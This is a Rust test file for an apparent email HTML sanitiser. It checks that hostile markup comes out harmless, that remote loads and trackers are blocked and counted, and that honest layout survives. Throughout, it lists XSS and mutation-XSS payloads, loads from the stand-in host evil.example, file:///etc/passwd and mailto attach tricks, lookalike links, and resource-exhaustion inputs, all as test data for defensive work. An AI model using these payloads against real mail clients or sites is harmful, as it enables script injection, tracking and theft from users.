//! What the sanitiser makes of hostile and of honest HTML, case by case.
//!
//! Each hostile case is judged by structure (see `support`) and must be a fixed point; classes follow public advisories.
//! Must not: expect exact output where only harmlessness matters.

mod support;

use mail_message::{Body, Warning};
use support::{inspect, read_html, sanitized};

/// Every case comes out harmless, and as a fixed point.
fn harmless(cases: &[&str]) {
    for case in cases {
        let html = sanitized(&format!("{case}<p>kept</p>"));
        inspect(&html).unwrap_or_else(|harm| panic!("{harm}\nin: {case}\nout: {html}"));
        assert_eq!(sanitized(&html), html, "no fixed point: {case}");
    }
}

/// Each input comes out as given.
fn becomes(cases: &[(&str, &str)]) {
    for (case, expected) in cases {
        assert_eq!(&sanitized(case), expected, "of {case}");
        assert_eq!(&sanitized(expected), expected, "no fixed point: {expected}");
    }
}

#[test]
fn svg_and_mathml_go_with_all_they_hold() {
    harmless(&[
        "<svg><animate attributeName='href ' values='javascript:alert(1)'/><a id=x><text>go</text></a></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<svg><animate attributeName=xlink:href by='javascript:alert(1)' from=x></svg>",
        "<svg><use href='data:image/s\tvg+xml;base64,PHN2Zz48L3N2Zz4=#x'/></svg>",
        "<svg><rect fill=\"url(http://evil.example/f)\" mask='url(//evil.example/m'/></svg>",
        "<svg><feImage href=http://evil.example/i /></svg>",
        "<svg><style>@import 'http://evil.example/s'</style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
        "<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>",
    ]);
}

#[test]
fn nothing_is_taken_apart_and_put_together_again() {
    harmless(&[
        "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:x onanimationstart=alert(1) foo=bar\">",
        "<body bgcolor='red\" onload=\"alert(1)'>",
        "<body background='x\" onerror=\"alert(1)' style='background:red\" onload=alert(1)'>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img alt='`><img src=x onerror=alert(1)>' src=cid:none>",
        "<p title='--><img src=x onerror=alert(1)>'>x</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=1.0?><?php <img src=x onerror=alert(1)> ?>",
        "<!--[if mso]><img src=http://evil.example/mso><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a><b><a><table><a><b></table></a></b><i><p></i>",
        "<table><form><td><p><table><tr><b><a href=http://a.example>x</b></table>",
        "<select><option><img src=x onerror=alert(1)></select>",
        "<isindex action=javascript:alert(1) type=image>",
    ]);
}

#[test]
fn nothing_loads() {
    harmless(&[
        "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example>",
        "<base href=http://evil.example/><img src=x>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<meta http-equiv=Content-Security-Policy content='img-src *'>",
        "<iframe src=http://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
        "<img srcset='http://evil.example/1 1x' src=http://evil.example/2>",
        "<picture><source srcset=//evil.example/p><img src=//evil.example/q></picture>",
        "<video poster=http://evil.example><source src=http://evil.example></video><audio src=http://evil.example>",
        "<object data=http://evil.example><embed src=http://evil.example></object>",
        "<table background=http://evil.example/t><tr><td background=//evil.example/d>x</table>",
        "<body background=http://evil.example/b>",
        "<input type=image src=http://evil.example/i>",
        "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='><img src=' data:image/png,x'>",
        "<img src=file:///etc/passwd><img src=blob:x><img src=about:blank><img src=x.png>",
        "<img lowsrc=http://evil.example dynsrc=http://evil.example longdesc=http://evil.example>",
        "<a href=https://a.example ping=http://evil.example attributionsrc=http://evil.example>x</a>",
        "<html manifest=http://evil.example>",
        "<portal src=http://evil.example></portal><frameset><frame src=http://evil.example></frameset>",
    ]);
}

#[test]
fn nothing_runs_or_submits() {
    harmless(&[
        "<script>alert(1)</script><script src=//evil.example></script>",
        "<p onclick=alert(1) ONMOUSEOVER='alert(1)' oN\u{0}load=alert(1)>x</p>",
        "<a href=javascript:alert(1)>x</a><a href=' \u{1}JaVa\tScript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a><a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href=vbscript:x>x</a><a href=data:text/html,x>x</a><a href=blob:x>x</a><a href=filesystem:x>x</a>",
        "<a href='//evil.example'>x</a><a href=x.html>x</a><a href='view-source:http://a.example'>x</a>",
        "<form action=http://evil.example><input name=password type=password><button formaction=javascript:alert(1)>x",
        "<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
        "<div contenteditable autofocus tabindex=1 accesskey=x draggable=true>x</div>",
        "<form name=body><input id=getElementById name=attributes></form><a id=location name=cookie>x</a>",
        "<img name=getElementById id=body usemap=#m><map name=m><area href=javascript:alert(1)></map>",
        "<a href=https://a.example target=_top rel=opener>x</a><a href=https://a.example target=mail>x</a>",
        "<xss style=x:expression(alert(1))>x</xss><math href=javascript:alert(1)>x</math>",
        "<div slot=x is=x-y part=z itemref=q data-x=1 aria-owns=app>x</div>",
    ]);
}

#[test]
fn decoded_utf7_is_text() {
    let raw = "From: a@example.org\r\nContent-Type: text/html; charset=utf-7\r\n\r\n\
               +ADw-script+AD4-alert(1)+ADw-/script+AD4- <p>kept</p>";
    let Body::Html { html, .. } = mail_message::read(raw.as_bytes(), Default::default()).body else { panic!() };
    inspect(&html).unwrap();
    assert!(!html.contains("alert"), "{html}");
}

#[test]
fn links_keep_schemes_that_lead_somewhere_and_cannot_reach_back() {
    const OUT: &str = "target=\"_blank\" rel=\"noopener noreferrer nofollow ugc\"";
    becomes(&[
        (
            "<a href=https://a.example/?x=1&amp;y=2>x</a>",
            &format!("<a href=\"https://a.example/?x=1&amp;y=2\" {OUT}>x</a>"),
        ),
        ("<blockquote type=CITE cite=//x>x</blockquote>", "<blockquote type=\"cite\">x</blockquote>"),
        ("<blockquote type='cite x'>x</blockquote><p type=cite>x", "<blockquote>x</blockquote><p>x</p>"),
        ("<details open type=cite><summary>x</summary>y</details>", "<summary>x</summary>y"),
        ("<a href='HTTP://a.example'>x</a>", &format!("<a href=\"http://a.example\" {OUT}>x</a>")),
        (
            "<a href='mailto:a@b.example?subject=x'>x</a>",
            &format!("<a href=\"mailto:a@b.example?subject=x\" {OUT}>x</a>"),
        ),
        ("<a href=tel:+49123>x</a>", &format!("<a href=\"tel:+49123\" {OUT}>x</a>")),
        ("<a href=#top name=top>x</a>", "<a href=\"#m-top\" name=\"m-top\">x</a>"),
        ("<a href='http:'>x</a>", "<a>x</a>"),
        ("<a href='https://bank.example%2Fx.evil.example/'>x</a>", "<a>x</a>"),
        (
            "<a href='https:\\\\PayPal\u{2764}.ws\\x'>x</a>",
            &format!("<a href=\"https://xn--paypal-n50d.ws/x\" {OUT}>x</a>"),
        ),
        (
            "<a href='https://bank.example%2F@0x7f.1/?\"onclick=x'>x</a>",
            &format!("<a href=\"https://bank.example%2F@127.0.0.1/?&quot;onclick=x\" {OUT}>x</a>"),
        ),
        (
            "<a href='mailto:x@evil.example?attach=/etc/passwd&amp;bcc=y@z.example&amp;body=a%0Ab'>x</a>",
            &format!("<a href=\"mailto:x@evil.example?body=a%0D%0Ab\" {OUT}>x</a>"),
        ),
        // Its letters would read the other way round.
        ("<bdo dir=rtl>elpmaxe.knab//:sptth</bdo>", "elpmaxe.knab//:sptth"),
        ("<a href='https://a.example/\u{202e}gpj.exe'>x</a>", "<a>x</a>"),
    ]);
}

#[test]
fn areas_of_images_lead_where_links_may_and_nowhere_else() {
    const PIXEL: &str = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    const OUT: &str = "target=\"_blank\" rel=\"noopener noreferrer nofollow ugc\"";
    becomes(&[
        (
            &format!(
                "<img src='{PIXEL}' usemap=#Menu alt=x><map name=Menu id=Menu><area shape=RECT coords='0, 0,10 20' \
                 href='https:a.example/x' alt=Shop title=t target=_top onclick=x></map>"
            ),
            &format!(
                "<img src=\"{PIXEL}\" usemap=\"#m-Menu\" alt=\"x\"><map name=\"m-Menu\" id=\"m-Menu\"><area shape=\"rect\" \
                 coords=\"0,0,10,20\" href=\"https://a.example/x\" alt=\"Shop\" title=\"t\" {OUT}></map>"
            ),
        ),
        (
            "<map name=m-a><area shape=polygon coords=1,2,3,4,5,6 href=mailto:a@b.example></map>",
            &format!(
                "<map name=\"m-a\"><area shape=\"poly\" coords=\"1,2,3,4,5,6\" href=\"mailto:a@b.example\" {OUT}></map>"
            ),
        ),
        ("<area href=#top>x", "<area href=\"#m-top\">x"),
        // Without an address that is good, it leads nowhere.
        ("<area href='javascript:x'><area href=x.html><area href=https:#>x", "<area><area><area>x"),
        ("<area shape=star coords=1,x,url(x) href>x", "<area>x"),
        ("<area nohref ping=http://a.example download=x type=y>x", "<area>x"),
        // A map is one of the mail's own, whatever browsers take for its name.
        ("<img usemap=m alt=x><img usemap=http://a.example/#m alt=x>", "<img alt=\"x\"><img alt=\"x\">"),
        (
            "<img usemap=# alt=x><img usemap='#a b' alt=x><img ismap alt=x>",
            "<img alt=\"x\"><img alt=\"x\"><img alt=\"x\">",
        ),
        ("<p usemap=#m name=y shape=rect coords=1>x</p>", "<p>x</p>"),
        ("<object usemap=#m></object><input usemap=#m><map name='a b'>x</map>", "<map>x</map>"),
    ]);
    harmless(&[
        "<map name=body><area href=' \u{1}JaVa\tScript:alert(1)' alt='\"><img src=x onerror=alert(1)>'></map>",
        "<map name='\"><script>alert(1)</script>'><area coords='\"><script>alert(1)</script>'></map>",
        "<table><map name=a><tr><area href=https://a.example><td><map><area href=//b.example></table>",
        "<a href=https://a.example><map name=x><a href=https://b.example><area href=https://c.example>",
        "<svg><area href=javascript:alert(1)><map name=x></svg><math><map><area href=javascript:alert(1)>",
        "<img src=http://evil.example/i usemap=http://evil.example/u><map id=location name=cookie></map>",
    ]);
}

#[test]
fn honest_layout_stays() {
    const PIXEL: &str = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    becomes(&[
        (
            "<table width=600 cellpadding=0 cellspacing=\"0\" bgcolor=#FFFFFF align=center role=presentation>\
             <tr><td valign=top style=\"padding: 10px;\">x</table>",
            "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" bgcolor=\"#FFFFFF\" align=\"center\" \
             role=\"presentation\"><tbody><tr><td valign=\"top\" style=\"padding:10px\">x</td></tr></tbody></table>",
        ),
        (
            "<body bgcolor=f4f4f4 text=black style='margin:0'><p>x</body>",
            "<div class=\"m--page\" style=\"background-color:#f4f4f4;color:black;margin:0\"><p>x</p></div>",
        ),
        ("<html dir=rtl lang=ar><body lang=he>x", "<div class=\"m--page\" dir=\"rtl\" lang=\"he\">x</div>"),
        (
            "<head><style><!-- .Big, #one > p { color: RED; } --></style></head><p class='Big big' id=one>x",
            "<style>\n.m-Big,#m-one>p{color:RED}\n</style><p class=\"m-Big m-big\" id=\"m-one\">x</p>",
        ),
        (
            &format!("<img src='{PIXEL}' width=1 alt=\"a &lt; b\">"),
            &format!("<img src=\"{PIXEL}\" width=\"1\" alt=\"a &lt; b\">"),
        ),
        (
            "<font color=red face='Arial, sans' size=+1>x</font>",
            "<font color=\"red\" face=\"Arial, sans\" size=\"+1\">x</font>",
        ),
        ("<o:p>office</o:p><custom-thing>kept</custom-thing>", "officekept"),
        (
            "<button>Click</button><form><label>Name</label></form>",
            "Click<label>".split('<').next().map(|_| "ClickName").unwrap(),
        ),
        ("<pre>\n\n  two  spaces\n</pre>", "<pre>\n\n  two  spaces\n</pre>"),
        ("a &amp;lt; b &nbsp;c", "a &amp;lt; b \u{a0}c"),
    ]);
}

#[test]
fn what_was_blocked_is_counted_and_named() {
    let document = read_html(
        "<img src=http://one.example/a.png width=600 height=1><img src='//two.example/p' width=1 height=1>\
         <img src=https://user@Three.example:8080/x style='display:none'>\
         <div style='background:#fff url(https://four.example/b)'>x</div>\
         <style>@import 'http://five.example/s'; @font-face{src:url(//six.example/f)} p{background-image:url(http://one.example)}</style>\
         <link rel=stylesheet href=http://seven.example/l><form></form><script></script><p onclick=x>y</p>\
         <a href='javascript:x'>z</a><a href=http://eight.example>a link is no load</a>",
    );
    let blocked = document.blocked;
    assert_eq!(
        Vec::from_iter(&blocked.hosts.names),
        ["five.example", "four.example", "one.example", "seven.example", "six.example", "three.example", "two.example"]
    );
    assert_eq!((blocked.remote, blocked.trackers, blocked.forms, blocked.scripts), (8, 2, 1, 3));
}

#[test]
fn at_most_twenty_hosts_are_named_and_that_there_are_more() {
    for (count, has_more) in [(20, false), (21, true), (500, true)] {
        // Each of them twice: what was named is no other one.
        let html: String = (0..2 * count).map(|at| format!("<img src=http://h{}.example/x>", at % count)).collect();
        let blocked = read_html(&html).blocked;
        assert_eq!((blocked.remote, blocked.hosts.names.len(), blocked.hosts.has_more), (2 * count, 20, has_more));
    }
}

#[test]
fn a_run_longer_than_any_word_gets_places_to_break_the_line() {
    let run = |length| "x".repeat(length);
    becomes(&[
        (&format!("<p>{}</p>", run(500)), &format!("<p>{}</p>", run(500))),
        (&format!("<p>{}</p>", run(1_001)), &format!("<p>{}<wbr>{}<wbr>x</p>", run(500), run(500))),
        (&format!("<p>{} {}</p>", run(400), run(400)), &format!("<p>{} {}</p>", run(400), run(400))),
    ]);
}

#[test]
fn html_beyond_a_limit_is_read_as_text() {
    let fonts: String = (0..10_000).map(|size| format!("<font size={size}>")).collect();
    let attributes: String = (0..100_000).map(|name| format!(" a{name}")).collect();
    let cloned = format!("{}{}", "<font color='x'>".repeat(3), "<p>x".repeat(110_000));
    let long = format!("<p><font title='{}'>{}", "x".repeat(200_000), "<p>x".repeat(1_000));
    for (name, html) in [
        ("nested", "<div>".repeat(100_000)),
        ("nested tables", "<table><tr><td>".repeat(20_000)),
        ("open fonts", format!("{fonts}{}", "<p>".repeat(100_000))),
        ("attributes", format!("<p{attributes}>")),
        ("attributes of an end tag", format!("</p{attributes}>")),
        ("attributes behind a quote", format!("<p x ='\"' {attributes} y='\">'>")),
        ("attributes in a comment that is none", format!("<!--><p {attributes}-->")),
        ("clones of elements", cloned),
        ("clones of a long attribute", long),
        ("octets", "x".repeat(2 * 1024 * 1024 + 1)),
        ("quotations", "<blockquote>".repeat(5_000)),
    ] {
        let document = read_html(&format!("{html}<p>kept"));
        assert!(document.warnings.contains(&Warning::HtmlTooComplex), "{name}: {:?}", document.warnings);
        assert!(!matches!(document.body, Body::Html { .. }), "{name}");
    }
}

#[test]
fn bombs_within_the_limits_stay_within_the_bound_of_the_output() {
    let rules: String = (0..100_000).map(|rule| format!(".a{rule}{{color:red}}")).collect();
    for html in [
        format!("<style>{}</style>x", rules.get(..200_000).unwrap()),
        format!("<style>{}</style>x", "@media screen{".repeat(10_000)),
        format!("<style>a{}{{color:red}}</style>x", ":has(b".repeat(10_000)),
        format!("<p style='background:{}'>x", "linear-gradient(".repeat(10_000)),
        format!("<p style='color:{}'>x", "(".repeat(100_000)),
        format!("<p style='{}'>x", "box-shadow:0 0 1px red;".repeat(10_000)),
        format!("{}x", "<!-- -- ".repeat(20_000)),
        format!("{}x", "&lt".repeat(30_000)),
        format!("<plaintext>{}", "<b>".repeat(20_000)),
        "<p>x".repeat(10_000),
        "</p>".repeat(20_000),
        "<a href=http://a.example>".repeat(5_000),
        "<b></p>".repeat(100),
        "\u{0}<".repeat(20_000),
    ] {
        let out = sanitized(&html);
        assert!(out.len() <= 4 * 1024 * 1024, "{} octets", out.len());
        inspect(&out).unwrap();
    }
}

/// The fragment as it is read with these wishes, and what was counted.
fn wished(html: &str, options: mail_message::ReadOptions) -> (String, mail_message::Blocked) {
    let document = mail_message::read(&support::html_mail(html), options);
    let Body::Html { html, .. } = document.body else { panic!("no HTML") };
    (html, document.blocked)
}

#[test]
fn images_of_other_hosts_are_kept_where_that_is_wished_and_nothing_else_is() {
    let remote = mail_message::ReadOptions { remote_images: true, ..Default::default() };
    let (html, blocked) = wished(
        "<img src='HTTPS://one.example/a.png?x=1&amp;y=2'><img src=http://two.example/b.png>\
         <img src=https://three.example/pixel width=1 height=1><img src='//four.example/c'>\
         <img src='https://five.example/\"onerror=alert(1)'><div background=https://six.example/d>x</div>\
         <p style='background:url(https://seven.example/e)'>x</p>\
         <p style=\"background-image:url('https://eight.example/f)')\">x</p>\
         <style>p{background-image:url(https://nine.example/g)} @import 'https://ten.example/h';</style>\
         <link rel=stylesheet href=https://eleven.example><video src=https://twelve.example></video>\
         <img srcset='https://thirteen.example 1x'><img src='https://user@fourteen.example/x'><img src=ftp://fifteen.example/x>\
         <img src='https://paypal\u{2764}.ws/a b/\u{fc}.png'>",
        remote,
    );
    let addresses: Vec<&str> =
        html.split("https://").skip(1).filter_map(|rest| rest.split(['"', '&']).next()).collect();
    assert_eq!(
        addresses,
        [
            "nine.example/g",
            "one.example/a.png?x=1",
            "two.example/b.png",
            "four.example/c",
            "five.example/%22onerror=alert%281%29",
            "six.example/d",
            "seven.example/e",
            "eight.example/f%29",
            "xn--paypal-n50d.ws/a%20b/%C3%BC.png",
        ],
        "{html}"
    );
    assert!(!html.contains("http:") && !html.contains(" onerror") && !html.contains("@import"), "{html}");
    assert_eq!((blocked.shown, blocked.trackers), (9, 1));
    assert_eq!(
        Vec::from_iter(&blocked.shown_hosts.names),
        [
            "eight.example",
            "five.example",
            "four.example",
            "nine.example",
            "one.example",
            "seven.example",
            "six.example",
            "two.example",
            "xn--paypal-n50d.ws",
        ]
    );
    for host in ["three", "ten", "eleven", "twelve", "fourteen", "fifteen"] {
        let host = format!("{host}.example");
        assert!(blocked.hosts.names.contains(&host), "{host} in {:?}", blocked.hosts);
    }
    // A fixed point for whoever wishes the same, and nothing remote for who does not.
    assert_eq!(wished(&html, remote).0, html);
    assert!(!sanitized(&html).contains("https:"));
}

#[test]
fn colours_are_turned_dark_once_wherever_they_stand_and_nothing_else_changes() {
    let dark = mail_message::ReadOptions { darken: true, ..Default::default() };
    let (html, _) = wished(
        "<style>.a{color:#000;background:white url(x) no-repeat;font-family:Black}\
         @media (prefers-color-scheme:dark){.a{color:#fff}} @media screen{.a{border:1px solid rgb(0,0,0)}}</style>\
         <body bgcolor=#ffffff text=black><table bgcolor=ffffff><tr><td class=a style='color:hsl(0,0%,0%);color-scheme:light'>\
         <font color=black face=Black>x</font></td></tr></table><p style='color:rgba(0,0,0,.5);color:inherit;grid-area:red'>y",
        dark,
    );
    assert_eq!(
        html,
        "<style>\n.m-a{color:#ffffff;background:#000000 no-repeat;font-family:Black}\n@media screen{\n.m-a{border:1px solid #ffffff}\n}\n</style>\
         <div class=\"m--page\" style=\"background-color:#000000;color:#ffffff\"><table bgcolor=\"#000000\"><tbody><tr>\
         <td class=\"m-a\" style=\"color:#ffffff\"><font color=\"#ffffff\" face=\"Black\">x</font></td></tr></tbody></table>\
         <p style=\"color:rgba(255,255,255,0.5);color:inherit;grid-area:red\">y</p></div>"
    );
    assert_eq!(sanitized(&html), html, "what was turned dark is a fixed point");
}

#[test]
fn what_is_dark_already_stays_as_it_is() {
    let dark = mail_message::ReadOptions { darken: true, ..Default::default() };
    let html = "<body bgcolor=#111111 text=#eeeeee><p style='color:#ffffff'>x";
    assert_eq!(wished(html, dark).0, sanitized(html));
}

#[test]
fn links_that_lead_out_are_listed_in_their_order_with_what_they_show() {
    let document = read_html(
        "<a href=https://one.example>One <b>and</b><br>more</a><a href=#x>inside</a><a href='javascript:x'>none</a>\
         <p><a href=mailto:a@two.example><img alt=x src=cid:none></a></p><a name=y>anchor</a><a href=http://three.example>",
    );
    let Body::Html { html, links, .. } = document.body else { panic!("no HTML") };
    let links: Vec<(&str, &str)> = links.iter().map(|link| (link.text.as_str(), link.href.as_str())).collect();
    let expected =
        [("One and more", "https://one.example"), ("x", "mailto:a@two.example"), ("", "http://three.example")];
    assert_eq!(links, expected);
    assert_eq!(html.matches("target=\"_blank\"").count(), links.len());
}

#[test]
fn areas_are_links_in_their_place_among_the_others_named_by_their_alternative_text() {
    let document = read_html(
        "<a href=https://one.example>One</a><img src=https://img.example/x usemap=#m alt=Menu width=600 height=50>\
         <map name=m><area href=https:two.example/x alt='  Two &amp; more'><area alt=Dead><area href='javascript:x' alt=Bad>\
         <area href=#x alt=Inside><a href=https://three.example>Three</a><area href=mailto:a@four.example></map>\
         <area href=https://five.example alt=bank.example><a href=https://six.example>Six</a>",
    );
    let Body::Html { html, links, text } = document.body else { panic!("no HTML") };
    let cautions: Vec<bool> =
        links.iter().map(|link| !mail_message::target(&link.text, &link.href).cautions.is_empty()).collect();
    let links: Vec<(&str, &str)> = links.iter().map(|link| (link.text.as_str(), link.href.as_str())).collect();
    assert_eq!(
        links,
        [
            ("One", "https://one.example"),
            ("  Two & more", "https://two.example/x"),
            ("Three", "https://three.example"),
            ("", "mailto:a@four.example"),
            ("bank.example", "https://five.example"),
            ("Six", "https://six.example"),
        ]
    );
    assert_eq!(cautions, [false, false, false, false, true, false], "what names another host asks first");
    // As `static/frame.js` finds them: every element that has this attribute, and only they.
    let hrefs: Vec<&str> = html
        .split('<')
        .filter(|tag| tag.contains(" target=\"_blank\""))
        .filter_map(|tag| tag.split("href=\"").nth(1)?.split('"').next())
        .collect();
    assert_eq!(hrefs, links.iter().map(|(_, href)| *href).collect::<Vec<_>>());
    // With the image blocked, they can still be followed where the mail is read as text.
    let spans: String = text
        .iter()
        .flat_map(|block| &block.spans)
        .map(|span| match span {
            mail_message::Span::Text(text) => text.clone(),
            mail_message::Span::Link { text, href } => format!("[{text}|{href}]"),
        })
        .collect();
    assert_eq!(
        spans,
        "[One|https://one.example]Menu [Two & more|https://two.example/x] [Three|https://three.example] \
         [bank.example|https://five.example] [Six|https://six.example]"
    );
    assert_eq!((document.blocked.remote, document.blocked.scripts), (1, 1));
}

#[test]
fn the_text_of_an_area_is_cut_like_that_of_a_link() {
    let html = format!("<area href=https://a.example alt='{}'>", "ä".repeat(2_000));
    let Body::Html { links, .. } = read_html(&html).body else { panic!("no HTML") };
    assert_eq!(links[0].text.len(), mail_message::limits::LINK_TEXT_OCTETS);
}

#[test]
fn no_element_lays_out_more_children_as_a_grid_than_can_be_placed() {
    let children = |count: usize| {
        format!(
            "<style>div{{display:grid;gap:1px}}</style><div style=display:inline-grid>{}</div>",
            "<b>x</b>".repeat(count)
        )
    };
    let most = mail_message::limits::GRID_CHILDREN;
    assert_eq!(sanitized(&children(most)).matches("grid").count(), 2);
    let html = sanitized(&children(most + 1));
    assert!(html.starts_with("<style>\ndiv{gap:1px}\n</style><div><b>"), "{html}");
    assert_eq!(sanitized(&html), html);
    // Each of many elements could be a grid.
    let many = |nodes: usize| {
        format!(
            "<style>div{{display:grid}}</style>{}",
            format!("<div>{}</div>", "<b></b>".repeat(99)).repeat(nodes / 100)
        )
    };
    let most_nodes = mail_message::limits::GRID_NODES;
    assert!(
        sanitized(&many(most_nodes - 100)).contains("grid") && !sanitized(&many(most_nodes + 100)).contains("grid")
    );
    // What stood in elements that are not kept counts as well.
    let html = sanitized(&format!(
        "<style>p{{display:grid}}</style><p>{}</p>",
        "<o:p><b>x</b><b>y</b></o:p>".repeat(most / 2 + 1)
    ));
    assert!(!html.contains("grid"), "{html}");
    assert_eq!(sanitized(&html), html);
}

#[test]
fn a_mail_of_many_parts_is_text_where_the_body_around_them_would_be_too_large_a_grid() {
    let most = mail_message::limits::GRID_CHILDREN;
    let part = |start: &str| {
        let html = format!("{start}{}", "<b>x</b>".repeat(most / 10));
        format!("--x\r\nContent-Type: text/html\r\n\r\n{html}\r\n")
    };
    let parts = |start: &str, count: usize| {
        let parts = part(start) + &part("").repeat(count - 1);
        let head = "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n";
        mail_message::read(format!("{head}{parts}--x--\r\n").as_bytes(), Default::default())
    };
    let sheet = |display: &str| format!("<style>body{{display:{display}}}</style>");
    let few = parts(&sheet("grid"), 5);
    assert!(matches!(few.body, Body::Html { html, .. } if html.contains("body{display:grid}")));
    for display in ["grid", "INLINE-GRID !important", "block/**/grid", "inline grid"] {
        for start in [sheet(display), format!("<p style='display:{display}'>x</p>")] {
            let document = parts(&start, 11);
            assert!(matches!(document.body, Body::Text(_)), "{start}");
            assert!(document.warnings.contains(&Warning::HtmlTooComplex), "{start}");
        }
    }
    // Only what is kept as a style makes a grid.
    for start in [
        sheet("block"),
        sheet("grid blink"),
        "<style>p::before{display:grid}</style>".to_owned(),
        "display: grid".to_owned(),
        "<p title='display:grid'>{display:grid}</p>".to_owned(),
        "<p style='font-family:\"display:grid\"'>x</p>".to_owned(),
    ] {
        let document = parts(&start, 11);
        assert!(matches!(document.body, Body::Html { .. }), "{start}");
        assert!(document.warnings.is_empty(), "{start}");
    }
}

#[test]
fn no_sheet_of_one_part_makes_too_large_a_grid_in_another() {
    let most = mail_message::limits::GRID_CHILDREN;
    let of_parts = |parts: [&str; 2]| {
        let part = |html: &str| format!("--x\r\nContent-Type: text/html\r\n\r\n{html}\r\n");
        let parts = parts.map(part).concat();
        let head = "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n";
        mail_message::read(format!("{head}{parts}--x--\r\n").as_bytes(), Default::default())
    };
    let sheet = "<style>div{display:grid}</style><p>x</p>";
    let wide = |count: usize| format!("<div>{}</div>", "<b>x</b>".repeat(count));
    let too_wide = wide(most + 1);
    for parts in [[sheet, &too_wide], [&too_wide, sheet]] {
        let document = of_parts(parts);
        assert!(matches!(document.body, Body::Text(_)));
        assert!(document.warnings.contains(&Warning::HtmlTooComplex));
    }
    for parts in [[sheet, &wide(most)], [&too_wide, &too_wide]] {
        assert!(matches!(of_parts(parts).body, Body::Html { .. }));
    }
}
